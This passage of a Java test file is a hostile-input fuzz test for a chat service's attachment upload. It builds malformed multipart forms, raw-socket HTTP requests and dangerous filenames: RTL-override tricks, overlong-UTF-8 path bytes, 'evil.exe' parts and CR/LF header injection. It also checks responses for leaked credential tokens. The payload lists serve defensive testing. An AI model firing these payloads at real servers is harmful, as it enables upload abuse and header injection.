				new Route("GET", "/api/chats/{chat}", link(chat, "self"), null, null),
				new Route("POST", "/api/chats/{chat}/messages", link(chat, "messages"), "application/json",
						bytes("{\"content\":\"hello\"}")),
				new Route("POST", "/api/chats/{chat}/attachments", link(chat, "attachments"), refused.contentType,
						refused.serialize()),
				new Route("GET", "/api/chats/{chat}/attachments/{id}", attachmentHref, null, null),
				new Route("GET", "/api/chats/{chat}/transcript", link(chat, "transcript"), null, null),
				new Route("GET", "/api/chats/{chat}/transcript?direction=FORWARD",
						link(chat, "transcript") + "?direction=FORWARD&pageSize=5", null, null),
				new Route("GET", "/api/chats/{chat}/transcript/export", link(chat, "export"), null, null),
				new Route("GET", "/", "/", null, null), new Route("GET", "/actuator/health", "/actuator/health", null, null));
	}

	// ---------------------------------------------------------------- checks

	/** What an answer may be. */
	private record Expect(Set<Integer> successes, boolean containerMay, boolean noAnswerOk) {

		static Expect error() {
			return new Expect(Set.of(), false, false);
		}

		static Expect success(Integer... statuses) {
			return new Expect(Set.of(statuses), false, false);
		}

		Expect orContainer() {
			return new Expect(this.successes, true, this.noAnswerOk);
		}

		Expect orNoAnswer() {
			return new Expect(this.successes, this.containerMay, true);
		}

	}

	private void check(String what, Answer answer, Expect expect) {
		String where = what + " [" + answer.via + "] -> " + answer.status + " " + abbreviate(answer.text());
		String kind = this.category + " " + ((answer.status < 0) ? "no answer (" + answer.note + ")" : answer.status
				+ (answer.isProblem() ? " problem" : "") + (answer.via.startsWith("socket") ? " via socket" : ""));
		tally.computeIfAbsent(kind, (key) -> new AtomicInteger()).incrementAndGet();
		if (answer.status < 0) {
			assertThat(answer.note).as(where + ": the server hung").doesNotStartWith("timeout");
			assertThat(expect.noAnswerOk).as(where + ": no HTTP/1.1 answer").isTrue();
			// whatever came back instead of a status line leaks nothing either
			assertNoLeak(where, answer);
			System.out.println("no status line: " + where);
			return;
		}
		assertThat(answer.status).as(where).isLessThan(500);
		if (answer.status < 400) {
			assertThat(expect.successes).as(where + ": unexpected success").contains(answer.status);
		}
		assertNoLeak(where, answer);
		if (answer.status >= 400) {
			if (answer.isProblem()) {
				JsonNode problem = json.readTree(answer.body);
				assertThat(problem.get("status").asInt()).as(where).isEqualTo(answer.status);
				assertThat(problem.get("title").asString()).as(where).isNotBlank();
				assertThat(problem.get("code").asString()).as(where).isNotBlank();
			}
			else {
				assertThat(expect.containerMay).as(where + ": an error without a problem detail (Content-Type "
						+ answer.header("Content-Type") + ")").isTrue();
			}
		}
	}

	private void assertNoLeak(String where, Answer answer) {
		String body = answer.text();
		Matcher stack = STACK_TRACE.matcher(body);
		assertThat(stack.find()).as(where + ": a stack trace in the body").isFalse();
		String everything = answer.headers + "\n" + body;
		assertThat(everything).as(where).doesNotContain("X-Amz-Signature", "X-Amz-Credential")
			.doesNotContainIgnoringCase("X-Amz-Bearer")
			.doesNotContainIgnoringCase("ParticipantToken")
			.doesNotContainIgnoringCase("ConnectionToken");
		for (String secret : this.secrets.all()) {
			assertThat(everything).as(where + ": a secret").doesNotContain(secret);
		}
		answer.headers.forEach((name, values) -> {
			assertThat(name.toLowerCase(Locale.ROOT)).as(where + ": injected header").isNotIn("x-injected", "set-cookie");
			values.forEach((value) -> assertThat(value).as(where + ": header " + name).doesNotContain("\r", "\n", "\0"));
		});
	}

	private static void assertNoPathInName(String where, String name) {
		assertThat(name).as(where + ": stored name").doesNotContain("/", "\\").isNotBlank();
	}

	/**
	 * The download's {@code Content-Disposition}: one {@code attachment} with a quoted
	 * ASCII {@code filename} and an optional {@code filename*}, no CR/LF/quote injection,
	 * no path separator, no leading dot, no control or invisible character.
	 */
	private static void assertSafeDisposition(String where, String header) {
		assertThat(header).as(where).isNotNull().doesNotContain("\r", "\n", "\0");
		Matcher matcher = DISPOSITION.matcher(header);
		assertThat(matcher.matches()).as(where + ": Content-Disposition " + header).isTrue();
		assertSafeDownloadName(where + " filename", matcher.group(1));
		assertThat(matcher.group(1)).as(where + " filename").doesNotContain("\"");
		if (matcher.group(2) != null) {
			// percent-encoded, so a quote or a semicolon in it cannot end the parameter
			assertSafeDownloadName(where + " filename*", percentDecode(matcher.group(2)));
		}
	}

	private static void assertSafeDownloadName(String where, String name) {
		assertThat(name).as(where).isNotEmpty().doesNotContain("/", "\\").doesNotStartWith(".");
		assertThat(name.codePointCount(0, name.length())).as(where).isLessThanOrEqualTo(200);
		name.codePoints().forEach((codePoint) -> {
			int type = Character.getType(codePoint);
			assertThat(Character.isISOControl(codePoint) || type == Character.FORMAT || type == Character.LINE_SEPARATOR
					|| type == Character.PARAGRAPH_SEPARATOR || type == Character.SURROGATE)
				.as(where + ": U+%04X in %s", codePoint, name)
				.isFalse();
		});
	}

	/**
	 * The chat's transcript (its JSON-lines export) and the emulator hold exactly the
	 * attachments that were answered with 201.
	 */
	private void assertOnlyAcceptedAttachments(JsonNode chat, Set<String> acceptedHrefs) {
		Set<String> accepted = new LinkedHashSet<>();
		acceptedHrefs.forEach((href) -> accepted.add(href.substring(href.lastIndexOf('/') + 1)));
		Answer export = send(Req.of("GET", link(chat, "export")));
		check("export", export, Expect.success(200));
		Set<String> inTranscript = new LinkedHashSet<>();
		for (String line : export.text().split("\n")) {
			if (!line.isBlank()) {
				json.readTree(line).get("attachments").forEach((attachment) -> inTranscript.add(attachment.get("id").asString()));
			}
		}
		assertThat(inTranscript).as("attachments in the transcript").containsExactlyInAnyOrderElementsOf(accepted);
		Map<String, String> stored = this.emulator.attachmentStatuses(chat.get("contactId").asString());
		assertThat(stored.keySet()).as("attachments the emulator holds").containsExactlyInAnyOrderElementsOf(accepted);
		assertThat(stored.values()).as("attachment statuses").allMatch("APPROVED"::equals);
	}

	// ---------------------------------------------------------------- API helpers

	private JsonNode startChat(String displayName) {
		Answer answer = send(Req.of("POST", "/api/chats").header("Content-Type", "application/json")
			.body(bytes("{\"displayName\":\"" + displayName + "\"}")));
		check("start chat", answer, Expect.success(201));
		return json.readTree(answer.body);
	}

	private String uploadLegal(JsonNode chat, String name) {
		Form form = Form.withDisposition(bytes("filename=\"" + name + "\""), bytes("legal upload"));
		Answer answer = send(Req.of("POST", link(chat, "attachments")).header("Content-Type", form.contentType)
			.body(form.serialize()));
		check("legal upload", answer, Expect.success(201));
		return json.readTree(answer.body).get("href").asString();
	}

	private static String link(JsonNode chat, String name) {
		return chat.get("links").get(name).asString();
	}

	// ---------------------------------------------------------------- HTTP

	/** A header with a raw value (bytes, so that non-ASCII and CR/LF can be sent as they are). */
	private record Header(String name, byte[] value) {
	}

	/**
	 * A request: HttpClient sends it unless it is marked raw, declares a length it does
	 * not send, or HttpClient refuses it.
	 */
	private record Req(String method, String path, List<Header> headers, byte[] body, long declaredLength,
			boolean halfClose, boolean raw) {

		static Req of(String method, String path) {
			return new Req(method, path, List.of(), null, -1, false, false);
		}

		Req header(String name, String value) {
			List<Header> headers = new ArrayList<>(this.headers);
			headers.add(new Header(name, value.getBytes(StandardCharsets.UTF_8)));
			return new Req(this.method, this.path, headers, this.body, this.declaredLength, this.halfClose, this.raw);
		}

		String header(String name) {
			return this.headers.stream()
				.filter((header) -> header.name.equalsIgnoreCase(name))
				.map((header) -> new String(header.value, StandardCharsets.UTF_8))
				.findFirst()
				.orElse(null);
		}

		Req replaceHeader(String name, String value) {
			List<Header> headers = new ArrayList<>(this.headers);
			headers.removeIf((header) -> header.name.equalsIgnoreCase(name));
			return new Req(this.method, this.path, headers, this.body, this.declaredLength, this.halfClose, this.raw)
				.header(name, value);
		}

		Req path(String path) {
			return new Req(this.method, path, this.headers, this.body, this.declaredLength, this.halfClose, this.raw);
		}

		Req body(byte[] body) {
			return new Req(this.method, this.path, this.headers, body, this.declaredLength, this.halfClose, this.raw);
		}

		Req declaredLength(long length) {
			return new Req(this.method, this.path, this.headers, this.body, length, this.halfClose, true);
		}

		Req halfClosed() {
			return new Req(this.method, this.path, this.headers, this.body, this.declaredLength, true, true);
		}

		Req overSocket() {
			return new Req(this.method, this.path, this.headers, this.body, this.declaredLength, this.halfClose, true);
		}

	}

	/**
	 * An answer; {@code status} is -1 when the connection closed without one, or the
	 * answer had no status line (HTTP/0.9).
	 */
	private record Answer(int status, Map<String, List<String>> headers, byte[] body, String via, String note) {

		String header(String name) {
			return this.headers.entrySet()
				.stream()
				.filter((entry) -> entry.getKey().equalsIgnoreCase(name))
				.map((entry) -> String.join(", ", entry.getValue()))
				.findFirst()
				.orElse(null);
		}

		boolean isProblem() {
			String type = header("Content-Type");
			return type != null && type.startsWith("application/problem+json");
		}

		String text() {
			return new String(this.body, StandardCharsets.UTF_8);
		}

	}

	private Answer send(Req req) {
		if (!req.raw) {
			String refused;
			try {
				return viaClient(req);
			}
			catch (IllegalArgumentException ex) {
				refused = "HttpClient refused: " + ex.getMessage();
			}
			catch (IOException ex) {
				refused = "HttpClient failed: " + ex;
			}
			Answer answer = viaSocket(req);
			return new Answer(answer.status, answer.headers, answer.body, "socket, " + abbreviate(refused), answer.note);
		}
		return viaSocket(req);
	}

	private Answer viaClient(Req req) throws IOException {
		HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create("http://localhost:" + this.port + req.path))
			.timeout(Duration.ofSeconds(SO_TIMEOUT_MILLIS / 1000));
		for (Header header : req.headers) {
			builder.header(header.name, new String(header.value, StandardCharsets.ISO_8859_1));
		}
		builder.method(req.method, (req.body != null) ? BodyPublishers.ofByteArray(req.body) : BodyPublishers.noBody());
		try {
			HttpResponse<byte[]> response = this.http.send(builder.build(), BodyHandlers.ofByteArray());
			return new Answer(response.statusCode(), response.headers().map(), response.body(), "HttpClient", "");
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(ex);
		}
	}

	/**
	 * Send the request over a raw socket, written by another thread so that a server
	 * that answers and closes early never blocks the test, and read the answer with
	 * {@code SO_TIMEOUT}.
	 */
	private Answer viaSocket(Req req) {
		ByteArrayOutputStream request = new ByteArrayOutputStream();
		request.writeBytes(latin1(req.method + " " + req.path + " HTTP/1.1" + CRLF + "Host: localhost:" + this.port + CRLF
				+ "Connection: close" + CRLF));
		for (Header header : req.headers) {
			request.writeBytes(latin1(header.name + ": "));
			request.writeBytes(header.value);
			request.writeBytes(latin1(CRLF));
		}
		if (req.body != null || req.declaredLength >= 0) {
			long length = (req.declaredLength >= 0) ? req.declaredLength : req.body.length;
			request.writeBytes(latin1("Content-Length: " + length + CRLF));
		}
		request.writeBytes(latin1(CRLF));
		if (req.body != null) {
			request.writeBytes(req.body);
		}
		byte[] bytes = request.toByteArray();
		ByteArrayOutputStream received = new ByteArrayOutputStream();
		String note = "eof";
		try (Socket socket = new Socket()) {
			socket.connect(new InetSocketAddress("localhost", this.port), 5000);
			socket.setSoTimeout(SO_TIMEOUT_MILLIS);
			Thread writer = new Thread(() -> {
				try {
					OutputStream out = socket.getOutputStream();
					out.write(bytes);
					out.flush();
					if (req.halfClose) {
						socket.shutdownOutput();
					}
				}
				catch (IOException ex) {
					// the server answered and closed before reading everything
				}
			}, "hostile-writer");
			writer.setDaemon(true);
			writer.start();
			try {
				InputStream in = socket.getInputStream();
				byte[] buffer = new byte[8192];
				for (int read = in.read(buffer); read >= 0; read = in.read(buffer)) {
					received.write(buffer, 0, read);
				}
			}
			catch (SocketTimeoutException ex) {
				note = "timeout after " + SO_TIMEOUT_MILLIS + " ms";
			}
			catch (IOException ex) {
				note = ex.toString();
			}
			socket.close();
			writer.join(5000);
		}
		catch (IOException ex) {
			note = ex.toString();
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(ex);
		}
		return parse(received.toByteArray(), note);
	}

	private static Answer parse(byte[] response, String note) {
		int headEnd = indexOf(response, latin1(CRLF + CRLF), 0);
		String head = new String(response, 0, (headEnd >= 0) ? headEnd : response.length, StandardCharsets.ISO_8859_1);
		Matcher status = Pattern.compile("^HTTP/1\\.[01] (\\d{3})").matcher(head);
		if (!status.find()) {
			// a request line without a version is HTTP/0.9 to Tomcat: a bare body, no status line, no headers
			return new Answer(-1, Map.of(), response, "socket",
					(response.length > 0) ? "HTTP/0.9-style answer without a status line" : note);
		}
		Map<String, List<String>> headers = new LinkedHashMap<>();
		String[] lines = head.split(CRLF);
		for (int i = 1; i < lines.length; i++) {
			int colon = lines[i].indexOf(':');
			if (colon > 0) {
				headers.computeIfAbsent(lines[i].substring(0, colon).trim().toLowerCase(Locale.ROOT), (k) -> new ArrayList<>())
					.add(lines[i].substring(colon + 1).trim());
			}
		}
		byte[] body = (headEnd >= 0) ? Arrays.copyOfRange(response, headEnd + 4, response.length) : new byte[0];
		List<String> encoding = headers.getOrDefault("transfer-encoding", List.of());
		if (encoding.stream().anyMatch((value) -> value.toLowerCase(Locale.ROOT).contains("chunked"))) {
			body = dechunk(body);
		}
		return new Answer(Integer.parseInt(status.group(1)), headers, body, "socket", note);
	}

	private static byte[] dechunk(byte[] data) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		int position = 0;
		while (true) {
			int lineEnd = indexOf(data, latin1(CRLF), position);
			if (lineEnd < 0) {
				break;
			}
			String sizeLine = new String(data, position, lineEnd - position, StandardCharsets.ISO_8859_1).split(";")[0].trim();
			int size;
			try {
				size = Integer.parseInt(sizeLine, 16);
			}
			catch (NumberFormatException ex) {
				break;
			}
			position = lineEnd + 2;
			if (size == 0) {
				break;
			}
			int end = Math.min(position + size, data.length);
			out.write(data, position, end - position);
			position = end + 2;
		}
		return out.toByteArray();
	}

	private static int indexOf(byte[] data, byte[] target, int from) {
		outer: for (int i = from; i <= data.length - target.length; i++) {
			for (int j = 0; j < target.length; j++) {
				if (data[i + j] != target[j]) {
					continue outer;
				}
			}
			return i;
		}
		return -1;
	}

	// ---------------------------------------------------------------- multipart forms

	/** One part of a multipart form, as header lines and content. */
	private static final class Part {

		final List<byte[]> headers = new ArrayList<>();

		byte[] content;

		boolean blankLine = true;

		Part(byte[] content, String... headers) {
			this.content = content;
			for (String header : headers) {
				this.headers.add(bytes(header));
			}
		}

	}

	/** A multipart form and the ways it can be broken. */
	private static final class Form {

		String boundary;

		String contentType;

		final List<Part> parts = new ArrayList<>();

		String eol = CRLF;

		boolean closing = true;

		boolean crlfAfterDelimiter = true;

		byte[] preamble = new byte[0];

		byte[] epilogue = new byte[0];

		int truncateAt = -1;

		int flips;

		long flipSeed;

		long declaredExtra;

		private static final String[] NAMES = { "order.txt", "photo.png", "notes", "report.pdf", "data.csv",
				"r\u00e9sum\u00e9.txt", "scan.jpg", "memo.docx" };

		static Form valid(Random random) {
			Form form = new Form();
			form.boundary = "----fuzz" + Long.toHexString(random.nextLong());
			form.contentType = "multipart/form-data; boundary=" + form.boundary;
			String name = NAMES[random.nextInt(NAMES.length)];
			byte[] content = new byte[1 + random.nextInt(512)];
			for (int i = 0; i < content.length; i++) {
				content[i] = (byte) (0x20 + random.nextInt(0x5f));
			}
			String type = name.endsWith(".png") ? "image/png" : name.endsWith(".pdf") ? "application/pdf" : "text/plain";
			form.parts.add(new Part(content, "Content-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"",
					"Content-Type: " + type));
			if (random.nextInt(4) == 0) {
				form.parts.add(new Part(bytes("a comment"), "Content-Disposition: form-data; name=\"comment\""));
			}
			return form;
		}

		static Form withDisposition(byte[] fileNameParameters, byte[] content) {
			Form form = new Form();
			form.boundary = "----hostile" + Long.toHexString(new Random(Arrays.hashCode(fileNameParameters)).nextLong());
			form.contentType = "multipart/form-data; boundary=" + form.boundary;
			Part part = new Part(content);
			part.headers.add(concat(bytes("Content-Disposition: form-data; name=\"file\"; "), fileNameParameters));
			part.headers.add(bytes("Content-Type: text/plain"));
			form.parts.add(part);
			return form;
		}

		Part file() {
			return this.parts.get(0);
		}

		byte[] serialize() {
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			out.writeBytes(this.preamble);
			for (Part part : this.parts) {
				out.writeBytes(bytes("--" + this.boundary + (this.crlfAfterDelimiter ? this.eol : "")));
				for (byte[] header : part.headers) {
					out.writeBytes(header);
					out.writeBytes(bytes(this.eol));
				}
				if (part.blankLine) {
					out.writeBytes(bytes(this.eol));
				}
				out.writeBytes(part.content);
				out.writeBytes(bytes(this.eol));
			}
			if (this.closing) {
				out.writeBytes(bytes("--" + this.boundary + "--" + this.eol));
			}
			out.writeBytes(this.epilogue);
			return out.toByteArray();
		}

	}

	/** Ways to break a multipart form. */
	private enum Mutation {

		BOUNDARY_MISMATCH {
			@Override
			void structural(Form form, Random random) {
				form.contentType = "multipart/form-data; boundary=other" + random.nextInt(1000);
			}
		},
		BOUNDARY_MISSING {
			@Override
			void structural(Form form, Random random) {
				form.contentType = "multipart/form-data";
			}
		},
		BOUNDARY_EMPTY {
			@Override
			void structural(Form form, Random random) {
				form.contentType = "multipart/form-data; boundary=";
			}
		},
		BOUNDARY_TOO_LONG {
			@Override
			void structural(Form form, Random random) {
				form.boundary = "b".repeat(71 + random.nextInt(4000));
				form.contentType = "multipart/form-data; boundary=" + form.boundary;
			}
		},
		BOUNDARY_ODD_CHARACTERS {
			@Override
			void structural(Form form, Random random) {
				String[] odd = { "a b", "a\"b", "a;b", "a=b", "--", "\u00e9t\u00e9", "a\\b", "   " };
				form.boundary = odd[random.nextInt(odd.length)];
				form.contentType = "multipart/form-data; boundary=\"" + form.boundary.replace("\"", "\\\"") + "\"";
			}
		},
		BOUNDARY_PARAMETER_TWICE {
			@Override
			void structural(Form form, Random random) {
				form.contentType = "multipart/form-data; boundary=first; boundary=" + form.boundary;
			}
		},
		REQUEST_CHARSET_BOGUS {
			@Override
			void structural(Form form, Random random) {
				form.contentType += "; charset=x-bogus-" + random.nextInt(100);
			}
		},
		NO_CLOSING_DELIMITER {
			@Override
			void structural(Form form, Random random) {
				form.closing = false;
			}
		},
		DELIMITER_WITHOUT_LINE_BREAK {
			@Override
			void structural(Form form, Random random) {
				form.crlfAfterDelimiter = false;
			}
		},
		LF_LINE_ENDINGS {
			@Override
			void structural(Form form, Random random) {
				form.eol = "\n";
			}
		},
		NO_PARTS {
			@Override
			void structural(Form form, Random random) {
				form.parts.clear();
			}
		},
		EMPTY_BODY {
			@Override
			void structural(Form form, Random random) {
				form.parts.clear();
				form.closing = false;
			}
		},
		PREAMBLE_AND_EPILOGUE_NOISE {
			@Override
			void structural(Form form, Random random) {
				form.preamble = noise(random, 1 + random.nextInt(2000));
				form.epilogue = noise(random, 1 + random.nextInt(2000));
			}
		},
		MISSING_FILE_PART {
			@Override
			void structural(Form form, Random random) {
				if (!form.parts.isEmpty()) {
					form.file().headers.set(0, bytes("Content-Disposition: form-data; name=\"document\"; filename=\"a.txt\""));
				}
			}
		},
		DUPLICATED_FILE_PART {
			@Override
			void structural(Form form, Random random) {
				form.parts.add(new Part(bytes("second"), "Content-Disposition: form-data; name=\"file\"; filename=\"evil.exe\"",
						"Content-Type: application/x-msdownload"));
			}
		},
		DUPLICATED_PART_HEADERS {
			@Override
			void structural(Form form, Random random) {
				if (!form.parts.isEmpty()) {
					form.file().headers.add(bytes("Content-Disposition: form-data; name=\"file\"; filename=\"evil.exe\""));
					form.file().headers.add(bytes("Content-Type: application/x-msdownload"));
				}
			}
		},
		NO_CONTENT_DISPOSITION {
			@Override
			void structural(Form form, Random random) {
				if (!form.parts.isEmpty()) {
					form.file().headers.removeIf((header) -> new String(header, StandardCharsets.ISO_8859_1)
						.startsWith("Content-Disposition"));
				}
			}
		},
		CONTENT_DISPOSITION_VARIANT {
			@Override
			void structural(Form form, Random random) {
				String[] variants = { "attachment; name=\"file\"; filename=\"x.txt\"", "form-data; filename=\"x.txt\"",
						"form-data; name=file; filename=x.txt", "form-data; name=\"file\"; filename*=x-bogus''x.txt",
						"form-data; name=\"file\"; filename*=UTF-8''%ZZ.txt",
						"form-data; name=\"file\"; filename*=UTF-8''%E2%80%AEgpj.txt", "form-data; name=\"file\"; filename=\"\"",
						"form-data; name=\"file\"; filename", "form-data; name=\"file\"; filename=\"unterminated.txt",
						"form-data; name=\"file\"; filename=\"a.txt\"; filename=\"b.exe\"", "form-data; name=\"file;\"; filename=\"a.txt\"",
						"form-data;;;;", "form-data; name=\"file\"; filename=\"x.txt\"; size=-1; creation-date=\"garbage\"",
						"form-data; name*=UTF-8''file; filename=\"x.txt\"", "FORM-DATA; NAME=\"file\"; FILENAME=\"x.txt\"",
						"form-data; name=\"file\"; filename=\"" + "d".repeat(3000) + ".txt\"", "", ";", "=" };
				if (!form.parts.isEmpty()) {
					form.file().headers.set(0, bytes("Content-Disposition: " + variants[random.nextInt(variants.length)]));
				}
			}
		},
		GARBAGE_PART_HEADER {
			@Override
			void structural(Form form, Random random) {
				byte[][] garbage = { bytes("NoColonHere"), { 0, 1, 2, (byte) 0xff, ':', ' ', 0 }, bytes(" folded continuation"),
						bytes("Content-Disposition : form-data; name=\"file\""), bytes(": no name"),
						bytes("\u00e9t\u00e9: value"), bytes("X-Empty:"), bytes("Content-Length: abc"),
						bytes("Content-Length: -5"), bytes("Content-Type"), noise(random, 200) };
				if (!form.parts.isEmpty()) {
					form.file().headers.add(random.nextInt(form.file().headers.size() + 1),
							garbage[random.nextInt(garbage.length)]);
				}
			}
		},
		NO_BLANK_LINE_AFTER_HEADERS {
			@Override
			void structural(Form form, Random random) {
				if (!form.parts.isEmpty()) {
					form.file().blankLine = false;
				}
			}
		},
		GIANT_PART_HEADER {
			@Override
			void structural(Form form, Random random) {
				int[] sizes = { 600, 8 * 1024, 16 * 1024, 64 * 1024, 256 * 1024 };
				if (!form.parts.isEmpty()) {
					String name = random.nextBoolean() ? "X-Giant: " : "Content-Type: text/plain; x=";
					form.file().headers.add(bytes(name + "g".repeat(sizes[random.nextInt(sizes.length)])));
				}
			}
		},
		DECLARED_LARGER_PART {
			@Override
			void structural(Form form, Random random) {
				long[] declared = { 600, 5000, 1024 * 1024 + 1, 10L * 1024 * 1024 * 1024, Long.MAX_VALUE };
				if (!form.parts.isEmpty()) {
					form.file().headers.add(bytes("Content-Length: " + declared[random.nextInt(declared.length)]));
				}
			}
		},
		DECLARED_LARGER_REQUEST {
			@Override
			void structural(Form form, Random random) {
				form.declaredExtra = 1 + random.nextInt(100_000);
			}
		},
		TRUNCATED {
			@Override
			void structural(Form form, Random random) {
				form.truncateAt = random.nextInt(form.serialize().length + 1);
			}
		},
		RANDOM_BYTE_FLIPS {
			@Override
			void structural(Form form, Random random) {
				form.flips = 1 + random.nextInt(20);
				form.flipSeed = random.nextLong();
			}
		},
		NON_UTF8_FILE_NAME {
			@Override
			void structural(Form form, Random random) {
				byte[][] names = { { 'c', 'a', 'f', (byte) 0xE9, '.', 't', 'x', 't' }, { (byte) 0xC3, 0x28, '.', 't', 'x', 't' },
						{ '.', '.', (byte) 0xC0, (byte) 0xAF, 'x', '.', 't', 'x', 't' }, { (byte) 0xFF, (byte) 0xFE, '.', 't', 'x', 't' },
						{ (byte) 0xED, (byte) 0xA0, (byte) 0x80, '.', 't', 'x', 't' }, { (byte) 0x80, '.', 't', 'x', 't' } };
				if (!form.parts.isEmpty()) {
					form.file().headers.set(0, concat(bytes("Content-Disposition: form-data; name=\"file\"; filename=\""),
							names[random.nextInt(names.length)], bytes("\"")));
				}
			}
		},
		WRONG_PART_CONTENT_TYPE {
			@Override
			void structural(Form form, Random random) {
				String[] types = { ";;;", "text/", "/", "application/x-msdownload", "text/plain; charset=x-bogus",
						"image/png", "multipart/mixed; boundary=inner", "", "text/html", "application/json; " + "p=v; ".repeat(500) };
				if (!form.parts.isEmpty()) {
					Part file = form.file();
					file.headers.removeIf((header) -> new String(header, StandardCharsets.ISO_8859_1).startsWith("Content-Type"));
					file.headers.add(bytes("Content-Type: " + types[random.nextInt(types.length)]));
				}
			}
		},
		PART_TRANSFER_ENCODING {
			@Override
			void structural(Form form, Random random) {
				String[] encodings = { "base64", "quoted-printable", "x-bogus", "chunked", "gzip" };
				if (!form.parts.isEmpty()) {
					form.file().headers.add(bytes("Content-Transfer-Encoding: " + encodings[random.nextInt(encodings.length)]));
				}
			}
		},
		CONTENT_CONTAINS_DELIMITER {
			@Override
			void structural(Form form, Random random) {
				if (!form.parts.isEmpty()) {
					Part file = form.file();
					String cut = random.nextBoolean() ? "--" + form.boundary : "\r\n--" + form.boundary + "--";
					file.content = concat(file.content, bytes(cut), file.content);
				}
			}
		},
		EMPTY_FILE {
			@Override
			void structural(Form form, Random random) {
				if (!form.parts.isEmpty()) {
					form.file().content = new byte[0];
				}
			}
		},
		MANY_PARTS {
			@Override
			void structural(Form form, Random random) {
				int count = 100 + random.nextInt(3000);
				for (int i = 0; i < count; i++) {
					form.parts.add(new Part(bytes("v"), "Content-Disposition: form-data; name=\"f" + i + "\""));
				}
			}
		};

		abstract void structural(Form form, Random random);

	}

	// ---------------------------------------------------------------- file names

	/** A hostile file name: the Content-Disposition parameters that carry it. */
	private record HostileName(String label, byte[] disposition, Set<Integer> expected) {

		/** As a quoted {@code filename}, UTF-8, as browsers send it. */
		static HostileName quoted(String name, Set<Integer> expected) {
			return new HostileName(name, bytes("filename=\"" + name + "\""), expected);
		}

		/** As an RFC 5987 {@code filename*} (already percent-encoded). */
		static HostileName encoded(String encoded, Set<Integer> expected) {
			return new HostileName("filename*=" + encoded, bytes("filename*=UTF-8''" + encoded), expected);
		}

		/** Parameters as they are, CR/LF and all. */
		static HostileName raw(String parameters, Set<Integer> expected) {
			return new HostileName(parameters, bytes(parameters), expected);
		}

		static HostileName ofBytes(String label, byte[] parameters, Set<Integer> expected) {
			return new HostileName(label, parameters, expected);
		}

		@Override
		public String toString() {
			return this.label;
		}

	}

	// ---------------------------------------------------------------- bytes

	private static byte[] bytes(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] latin1(String text) {
		return text.getBytes(StandardCharsets.ISO_8859_1);
	}

	private static byte[] concat(byte[]... arrays) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (byte[] array : arrays) {
			out.writeBytes(array);
		}
		return out.toByteArray();
	}

	private static byte[] noise(Random random, int length) {
		byte[] noise = new byte[length];
		random.nextBytes(noise);
		return noise;
	}

	private static String percentDecode(String encoded) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (int i = 0; i < encoded.length(); i++) {
			char c = encoded.charAt(i);
			if (c == '%' && i + 2 < encoded.length()) {
				out.write(Integer.parseInt(encoded.substring(i + 1, i + 3), 16));
				i += 2;
			}
			else {
				out.write(c);
			}
		}
		return out.toString(StandardCharsets.UTF_8);
	}

	private static String abbreviate(String text) {
		String oneLine = text.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
		return (oneLine.length() <= 200) ? oneLine : oneLine.substring(0, 200) + "...(" + oneLine.length() + " chars)";
	}

}
